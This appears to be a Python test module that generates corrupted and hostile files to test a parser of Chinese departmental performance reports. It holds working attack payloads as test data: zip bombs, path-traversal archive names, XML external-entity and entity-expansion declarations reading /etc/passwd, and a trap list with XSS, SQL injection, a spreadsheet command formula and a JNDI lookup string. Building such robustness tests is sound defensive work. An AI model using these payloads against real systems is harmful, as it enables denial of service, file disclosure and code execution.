"""Files as no reader wants them, made from a seed: damaged, mislabelled, bombs and traps, in every format that is read.

Each comes with the name it has in the raw folder; the folder it stands in says what was done to it. What becomes of
them is asked by `test_hostile_files`.
"""

from __future__ import annotations

import random
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from io import BytesIO

from tests.builders.content import Content, Drawn, Grid, Line, read_drawn
from tests.builders.pdf import PdfBuilder
from tests.builders.sheets import write_xls, write_xlsx
from tests.builders.web import write_html
from tests.builders.word import build_docx, cell, paragraph, row, table, write_docx

MB = 1024 * 1024
Files = Iterator[tuple[str, bytes]]

_ENDINGS = (".txt", ".docx", ".doc", ".xlsx", ".xls", ".pdf", ".html", ".zip", ".csv", ".jpg", ".wps", "", ".docx.pdf")
# what offices wrote before UTF-8, what nobody writes, and what decodes as anything
_ENCODINGS = (
    *("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be", "utf-7", "gb18030", "gbk", "hz"),
    *("big5", "cp950", "shift_jis", "euc_jp", "euc_kr", "iso2022_jp", "cp1252", "cp037", "koi8_r"),
)
# text that steers, hides or poses as something else
TRAPS = (
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "[x](javascript:alert(1))",
    "![x](file:///etc/passwd)",
    "| a | b |\n|---|---|",
    "'; drop table reports; --",
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://x}",
    "\x1b[2J\x1b]0;x\x07\x00\x08\x7f",
    "\u202e五十万元\u202c \u2066\u200b\ufeff\u00ad",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") + "\U000e0001\uffff",
    "１２３４５６７８９０" * 200,
    "9" * 5000 + "万元",
    "（" * 3000 + "）" * 2999,
    "其中：" * 2000,
    "、".join("一二三四五六七八九十") * 300,
    "-1e999999万元，nan万元，∞万元，0x1F亿元",
)


def write_report(rng: random.Random) -> Content:
    """A short report of some department, different each time."""
    year = rng.randrange(1990, 2040)
    sums = [rng.randrange(10**9) / 100 for _ in range(6)]
    trap = rng.choice(TRAPS).replace("\x00", "")
    return [
        Line(f"某市{rng.choice('甲乙丙丁')}局{year}年度部门整体支出绩效自评报告", 1),
        Line("一、部门概况", 2),
        Line(f"{trap} {year}年基本支出{sums[0]:.2f}万元，项目支出{sums[1]:.2f}万元，共{sums[0] + sums[1]:.2f}万元。"),
        Line("二、绩效指标完成情况", 2),
        Grid(
            [
                ["一级指标", "二级指标", "三级指标", "年度指标值", "实际完成值", "分值", "得分"],
                [("产出指标", 2, 1), "数量指标", "培训人数", f"≥{sums[2]:.0f}人", f"{sums[3]:.0f}人", "10", "9.5"],
                ["质量指标", trap[:60], "100%", f"{sums[4] % 100:.1f}%", "10", "10"],
            ]
        ),
        Line(f"三、存在问题：{rng.choice(TRAPS)[:500]}".replace("\x00", "")),
    ]


def write_text(content: Content) -> bytes:
    lines = []
    for block in content:
        rows = [[block.words]] if isinstance(block, Line) else block.rows
        lines += ["\t".join(str(words if isinstance(words, str) else words[0]) for words in cells) for cells in rows]
    return "\n".join(lines).encode("utf-8", "replace")


def write_pdf(content: Content) -> bytes:
    builder = PdfBuilder()
    for line in write_text(content).decode().splitlines():
        builder.paragraph("".join(filter(str.isprintable, line))[:2000])
    return builder.save()


WRITERS: dict[str, Callable[[Content], bytes]] = {
    ".txt": write_text,
    ".docx": lambda content: write_docx(_printable(content)),
    ".html": lambda content: write_html(_printable(content)),
    ".pdf": write_pdf,
    ".xls": lambda content: write_xls(_printable(content)),
    ".xlsx": lambda content: write_xlsx(_printable(content)),
}


def write_sound(rng: random.Random) -> tuple[str, bytes]:
    """The ending and the bytes of a report with nothing wrong; one in ten is packed in an archive."""
    ending = rng.choice(sorted(WRITERS))
    content = WRITERS[ending](write_report(rng))
    if rng.random() < 0.1:
        return ".zip", pack({f"附件{number}{ending}": content[number:] for number in range(rng.randrange(1, 4))})
    return ending, content


def _printable(content: Content) -> Content:
    """Without control characters, which XML cannot hold."""

    def clean(drawn: Drawn) -> Drawn:
        words, down, across = read_drawn(drawn)
        return "".join(filter(str.isprintable, words)), down, across

    return [
        replace(block, words=read_drawn(clean(block.words))[0])
        if isinstance(block, Line)
        else Grid([[clean(drawn) for drawn in cells] for cells in block.rows])
        for block in content
    ]


# --- damage


def truncate(rng: random.Random, content: bytes) -> bytes:
    return content[: rng.randrange(len(content))]


def behead(rng: random.Random, content: bytes) -> bytes:
    return content[rng.randrange(1, len(content)) :]


def flip_bits(rng: random.Random, content: bytes) -> bytes:
    damaged = bytearray(content)
    for _ in range(rng.choice((1, 8, 64, 512))):
        damaged[rng.randrange(len(damaged))] ^= 1 << rng.randrange(8)
    return bytes(damaged)


def cut_out(rng: random.Random, content: bytes) -> bytes:
    start, end = sorted(rng.randrange(len(content) + 1) for _ in range(2))
    return content[:start] + content[end:]


def repeat(rng: random.Random, content: bytes) -> bytes:
    start, end = sorted(rng.randrange(len(content) + 1) for _ in range(2))
    return content[:end] + content[start:end] * rng.choice((1, 3, 20)) + content[end:]


def blank_out(rng: random.Random, content: bytes) -> bytes:
    start, end = sorted(rng.randrange(len(content) + 1) for _ in range(2))
    return content[:start] + bytes(end - start) + content[end:]


def scatter(rng: random.Random, content: bytes) -> bytes:
    at = rng.randrange(len(content) + 1)
    return content[:at] + rng.randbytes(rng.choice((1, 16, 1000))) + content[at:]


def reencode(rng: random.Random, content: bytes) -> bytes:
    text = content.decode("utf-8", "replace")
    return text.encode(rng.choice(_ENCODINGS), "replace")


def damage_inside(rng: random.Random, content: bytes) -> bytes:
    """A packed file whose checksums hold although one of its parts is damaged; another file damaged outright."""
    hurt = rng.choice((truncate, flip_bits, cut_out, repeat, scatter))
    if not content.startswith(b"PK"):
        return hurt(rng, content)
    with zipfile.ZipFile(BytesIO(content)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    name = rng.choice([name for name, part in parts.items() if part])
    return pack(parts | {name: hurt(rng, parts[name])})


DAMAGES = (truncate, behead, flip_bits, cut_out, repeat, blank_out, scatter, reencode, damage_inside)


def make_damaged_files(seed: int, count: int) -> Files:
    """`count` reports, each damaged in one or two ways, a fifth under the ending of another format."""
    rng = random.Random(seed)  # noqa: S311 - repeatable, not secret
    for number in range(count):
        ending, content = write_sound(rng)
        # what is damaged inside has to be whole outside
        damages = sorted(rng.choices(DAMAGES, k=rng.choice((1, 1, 2))), key=lambda damage: damage is not damage_inside)
        for damage in damages:
            content = damage(rng, content) if content else content
        if rng.random() < 0.2:
            ending = rng.choice(_ENDINGS)
        yield f"{'+'.join(damage.__name__ for damage in damages)}/{number}{ending}", content


# --- bombs and traps


def make_traps(*, size: int) -> Files:
    """One of each trap; `size` is how many bytes the larger ones unpack to."""
    many = size // 64
    below_bound = min(size, 15 * MB)
    yield "zip/bomb.zip", pack({"bomb.txt": bytes(size)})
    yield "zip/bombs.zip", pack({f"{number}.txt": bytes(below_bound) for number in range(5)})
    yield "zip/many.zip", pack({f"{number}.txt": b"x" for number in range(5_001)})
    yield "zip/nested.zip", _nest(20)
    yield "zip/bomb_in_bomb.zip", pack({"inner.zip": pack({"bomb.txt": bytes(size)})})
    yield (
        "zip/names.zip",
        pack({"../" * 50 + "etc/passwd.txt": b"x", "\x1b[2J\n\u202e.txt": "一、\x1b".encode(), "a" * 5000: b"y"}),
    )
    yield "zip/overlapping.zip", _overlap(below_bound)

    bomb = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "9" * 100}">' for n in range(12))
    yield from _xml("entities", bomb, "&e11;")
    yield from _xml("external", '<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")
    yield from _xml("network", '<!ENTITY x SYSTEM "http://127.0.0.1:9/x"> %y;', "&x;")

    yield "docx/deep_tables.docx", build_docx("".join(f"{_OPEN}" * 500) + paragraph("深") + _CLOSE * 500)
    yield (
        "docx/deep_runs.docx",
        build_docx("<w:p>" + "<w:ins>" * many + "<w:r><w:t>深</w:t></w:r>" + "</w:ins>" * many + "</w:p>"),
    )
    yield "docx/long_cell.docx", build_docx(table(row(cell(paragraph("9" * size)))))
    yield "docx/wide_row.docx", build_docx(table(row(*(cell(paragraph("1")) for _ in range(min(many, 20_000))))))
    span = '<w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr><w:p/></w:tc>'
    yield "docx/huge_span.docx", build_docx(table(f"<w:tr>{span * 5}</w:tr>" * 5) + paragraph("宽"))

    yield "html/deep.html", ("<html><body>" + "<div>" * many + "深").encode()
    yield "html/deep_tables.html", ("<html><body>" + "<table><tr><td>" * 5_000 + "深").encode()
    yield "html/long_cell.html", f"<html><body><p>绩效</p><table><tr><td>{'9' * size}</td></tr></table>".encode()
    yield (
        "html/spans.html",
        ("<html><body><p>绩效</p><table>" + "<tr><td rowspan=65534 colspan=1000>1</td></tr>" * 300).encode(),
    )
    yield "html/attributes.html", ("<html><body><p " + " ".join(f"a{n}=1" for n in range(many)) + ">绩效</p>").encode()

    yield "txt/long_line.txt", ("支出" + "9" * size).encode()
    yield "txt/many_lines.txt", ("一、\n" * (size // 5)).encode()
    yield "txt/many_cells.txt", ("支出\t" + "1\t" * (size // 8)).encode()
    yield "txt/brackets.txt", ("（" * (size // 8) + "万元").encode()
    yield "txt/zeros.txt", "绩效".encode() + bytes(size)
    yield from ((f"txt/trap{number}.txt", trap.encode("utf-8", "surrogatepass")) for number, trap in enumerate(TRAPS))

    yield "pdf/pages_of_pages.pdf", _pdf("<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>")
    yield "pdf/claims_pages.pdf", _pdf("<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", "<</Type/Page/Parent 2 0 R>>")
    yield (
        "pdf/huge_page.pdf",
        _pdf("<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 1e30 1e30]>>", "<</Type/Page/Parent 2 0 R>>"),
    )
    yield "pdf/nothing.pdf", b"%PDF-1.7\n%%EOF\n"
    yield "pdf/zeros.pdf", b"%PDF-1.7\n" + bytes(size)


_OPEN = "<w:tbl><w:tr><w:tc>"
_CLOSE = "<w:p/></w:tc></w:tr></w:tbl>"


def pack(files: dict[str, bytes]) -> bytes:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return packed.getvalue()


def _nest(depth: int) -> bytes:
    content = pack({"a.txt": "深".encode()})
    for level in range(depth):
        content = pack({f"{level}.zip": content, f"{level}.txt": str(level).encode()})
    return content


def _overlap(size: int) -> bytes:
    """Two hundred names for one and the same packed content."""
    packed = bytearray(pack({"a.txt": bytes(size)}))
    with zipfile.ZipFile(BytesIO(packed)) as archive:
        start = archive.start_dir
    entry, end = bytes(packed[start:-22]), bytearray(packed[-22:])
    end[8:12] = (200).to_bytes(2, "little") * 2
    end[12:16] = (200 * len(entry)).to_bytes(4, "little")
    return bytes(packed[:start]) + entry * 200 + bytes(end)


def _xml(name: str, entities: str, reference: str) -> Files:
    """The same declarations in a Word file and in a web page."""
    head = f"<!DOCTYPE x [{entities}]>"
    with zipfile.ZipFile(BytesIO(build_docx(paragraph("绩效") + paragraph(reference)))) as package:
        parts = {part: package.read(part) for part in package.namelist()}
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:document", f"{head}<w:document".encode(), 1)
    yield f"docx/{name}.docx", pack(parts)
    yield f"html/{name}.xhtml", f'<?xml version="1.0"?>{head}<html><body><p>绩效{reference}</p></body></html>'.encode()


def _pdf(*objects: str) -> bytes:
    numbered = "".join(f"{number} 0 obj{inside}endobj\n" for number, inside in enumerate(objects, 2))
    return f"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n{numbered}trailer<</Root 1 0 R>>\n%%EOF\n".encode()
